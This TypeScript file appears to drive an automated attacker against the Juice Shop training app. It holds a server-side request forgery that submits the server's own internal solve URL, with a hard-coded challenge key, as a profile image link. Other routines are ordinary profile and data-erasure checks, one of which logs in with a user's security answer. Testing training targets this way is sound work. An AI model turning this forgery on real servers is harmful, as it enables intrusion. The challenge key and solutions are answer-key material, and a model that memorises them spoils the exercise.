import type { Attacker } from '../attacker/attacker.js'
import { type Act, ensure, ensureStatus } from '../proof.js'
import { browseAsJim } from './customers.js'

/** The address that counts calls of the server itself. */
export const internalPath = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'

export async function haveServerCallItself(me: Attacker): Promise<void> {
  const form = new URLSearchParams({ imageUrl: me.url + internalPath })
  await (await browseAsJim(me)).send('/profile/image/url', form)
}

export const renames: Act = async (me) => {
  const jim = await browseAsJim(me)
  const saved = await jim.send('/profile', new URLSearchParams({ username: 'Tiberius' }))
  ensureStatus(saved, 'another name', 302)
  const shown = ensureStatus(await jim.get('/profile'), 'the profile')
  ensure(shown.text.includes('Tiberius'), 'The profile does not show the name')
}

export const linksPicture: Act = async (me) => {
  const jim = await browseAsJim(me)
  const imageUrl = 'https://pictures.example/jim.png'
  ensureStatus(await jim.send('/profile/image/url', new URLSearchParams({ imageUrl })), 'a linked picture', 302)
  ensureStatus(await jim.get('/profile'), 'the profile')
}

export const asksForErasure: Act = async (me) => {
  const form = new URLSearchParams({ email: 'jim@juice-sh.op', securityAnswer: 'Samuel' })
  const reply = ensureStatus(await (await browseAsJim(me)).send('/dataerasure', form), 'a request for erasure')
  ensure(reply.text.includes("localStorage.removeItem('token')"), 'The request for erasure does not log out')
}
